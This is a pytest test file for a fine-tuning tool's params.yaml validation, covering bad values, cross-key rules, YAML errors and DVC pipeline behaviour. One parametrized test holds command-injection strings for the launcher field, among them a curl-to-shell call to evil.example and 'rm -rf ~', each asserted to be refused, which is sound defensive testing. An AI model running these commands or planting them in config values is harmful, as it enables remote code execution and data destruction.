"""params.yaml is validated before any work: each bad value is refused by its dotted key and rule."""

from __future__ import annotations

import pytest
import yaml

from conftest import PROJECT, run, set_params
from tuneledger.core.errors import TuneLedgerError
from tuneledger.core.params import load_params, validate_params

DEFAULTS = yaml.safe_load((PROJECT / "params.yaml").read_text())


def with_value(dotted: str, value):
    params = yaml.safe_load((PROJECT / "params.yaml").read_text())
    node = params
    *parents, leaf = dotted.split(".")
    for part in parents:
        node = node[part]
    node[leaf] = value
    return params


def test_the_template_params_are_valid():
    params = validate_params(DEFAULTS)
    assert params.lora.r == 8 and params.model.base == "builtin:tiny-gpt2"


@pytest.mark.parametrize(
    ("key", "value", "message"),
    [
        ("lora.r", 0, "lora.r: Input should be greater than or equal to 1 (got 0)"),
        ("lora.r", "8", "lora.r: Input should be a valid integer (got '8')"),
        ("lora.r", 8.5, "lora.r: Input should be a valid integer"),
        ("lora.r", True, "lora.r: Input should be a valid integer (got True)"),
        ("lora.dropout", 1.0, "lora.dropout: Input should be less than 1"),
        (
            "lora.target_modules",
            [],
            "lora.target_modules: must be a non-empty list of layer names, 'auto' or 'all-linear'",
        ),
        (
            "lora.target_modules",
            "c_attn",
            "lora.target_modules: must be a non-empty list of layer names, 'auto' or 'all-linear'",
        ),
        (
            "lora.target_modules",
            ["c_attn", 3],
            "lora.target_modules: must be a non-empty list of layer names",
        ),
        ("train.lr", -0.1, "train.lr: Input should be greater than 0"),
        ("train.epochs", None, "train.epochs: Input should be a valid integer (got None)"),
        ("train.batch_size", 0, "train.batch_size: Input should be greater than or equal to 1"),
        ("data.test_fraction", 0.7, "data.test_fraction: Input should be less than 0.5"),
        ("data.source", "", "data.source: String should have at least 1 character"),
        ("seed", -1, "seed: Input should be greater than or equal to 0"),
        ("eval.max_new_tokens", 0, "eval.max_new_tokens: Input should be greater than or equal to 1"),
        ("export.merge", "yes", "export.merge: Input should be a valid boolean (got 'yes')"),
        ("lora.rank", 8, "lora.rank: unknown key"),
        ("optimizer", {"name": "adam"}, "optimizer: unknown key"),
    ],
)
def test_each_bad_value_is_refused_by_name(key, value, message):
    with pytest.raises(TuneLedgerError) as refused:
        validate_params(with_value(key, value))
    assert message in str(refused.value)
    assert str(refused.value).startswith("params.yaml: ")


def test_rules_across_keys_are_named_too():
    params = with_value("data.val_fraction", 0.45)
    params["data"]["test_fraction"] = 0.45
    with pytest.raises(TuneLedgerError, match=r"data: val_fraction \+ test_fraction must stay below 0.9"):
        validate_params(params)


def test_every_problem_gets_its_own_line():
    params = with_value("lora.r", 0)
    params["train"]["lr"] = 0
    lines = str(pytest.raises(TuneLedgerError, validate_params, params).value).splitlines()
    assert (
        len(lines) == 2
        and lines[0].startswith("params.yaml: lora.r")
        and lines[1].startswith("params.yaml: train.lr")
    )


def test_broken_yaml_names_line_and_column(tmp_path):
    path = tmp_path / "params.yaml"
    path.write_text("seed: 1\nlora:\n  r: [8\n")
    with pytest.raises(TuneLedgerError, match=r"params.yaml:\d+:\d+: invalid YAML"):
        load_params(path)


def test_bad_params_stop_dvc_repro_with_one_line_and_keep_outputs(trained_repo):
    """The real path users take: edit params.yaml, run `dvc repro`."""
    before = {p: p.read_bytes() for p in (trained_repo / "models/adapter").iterdir()}
    set_params(trained_repo, **{"lora.r": -4})
    failed = run("dvc", "repro", cwd=trained_repo, check=False)
    assert failed.returncode != 0
    assert "error: params.yaml: lora.r: Input should be greater than or equal to 1 (got -4)" in failed.stderr
    assert "Traceback" not in failed.stderr + failed.stdout
    assert {p: p.read_bytes() for p in (trained_repo / "models/adapter").iterdir()} == before
    assert "ok:" in run("tuneledger", "verify", cwd=trained_repo).stdout


def test_debug_shows_the_traceback(trained_repo):
    set_params(trained_repo, **{"lora.r": -4})
    failed = run(
        "python",
        "-m",
        "tuneledger.stages.evaluate",
        cwd=trained_repo,
        check=False,
        env={"TUNELEDGER_DEBUG": "1"},
    )
    assert failed.returncode != 0 and "Traceback" in failed.stderr


@pytest.mark.parametrize(
    "launcher",
    [
        "python",
        "torchrun --nproc_per_node 2",
        "torchrun --nnodes=2 --rdzv_endpoint=10.0.0.1:29400",
        "accelerate launch --config_file configs/accelerate/fsdp_cpu.yaml",
    ],
)
def test_known_launchers_are_accepted(launcher):
    assert validate_params(with_value("train.launcher", launcher)).train.launcher == launcher


@pytest.mark.parametrize(
    ("launcher", "rule"),
    [
        ("python; curl evil.example | sh", "options may hold only letters, digits"),
        ("torchrun --nproc_per_node 2 $(id)", "options may hold only letters, digits"),
        ("torchrun --nproc_per_node 2 && rm -rf ~", "options may hold only letters, digits"),
        ("accelerate launch --config_file `x`", "options may hold only letters, digits"),
        ("bash -c python", "must start with python, torchrun or accelerate launch"),
        ("accelerate config", "must start with python, torchrun or accelerate launch"),
        ("python -c 1", "python takes no options here"),
        ("torchrun --nproc_per_node 2\n  echo", "options may hold only letters, digits"),
        ("torchrun --config 'a b'", "options may hold only letters, digits"),
    ],
)
def test_a_launcher_is_never_free_shell_text(launcher, rule):
    with pytest.raises(TuneLedgerError) as refused:
        validate_params(with_value("train.launcher", launcher))
    assert f"params.yaml: train.launcher: {rule}" in str(refused.value)


def test_a_late_checked_name_is_refused_before_stale_checkpoints_are_removed(trained_repo):
    """Another rank makes the run's checkpoints stale; an unknown scheduler must stop the stage before
    anything is removed, so fixing the typo and reverting the rank resumes as before."""
    checkpoints = sorted(p.name for p in (trained_repo / "models/checkpoints").iterdir())
    assert checkpoints
    set_params(trained_repo, **{"lora.r": 4, "train.lr_scheduler": "cosine_typo"})
    done = run("dvc", "repro", "train", cwd=trained_repo, check=False)
    assert done.returncode != 0 and "train.lr_scheduler" in done.stderr + done.stdout
    assert sorted(p.name for p in (trained_repo / "models/checkpoints").iterdir()) == checkpoints
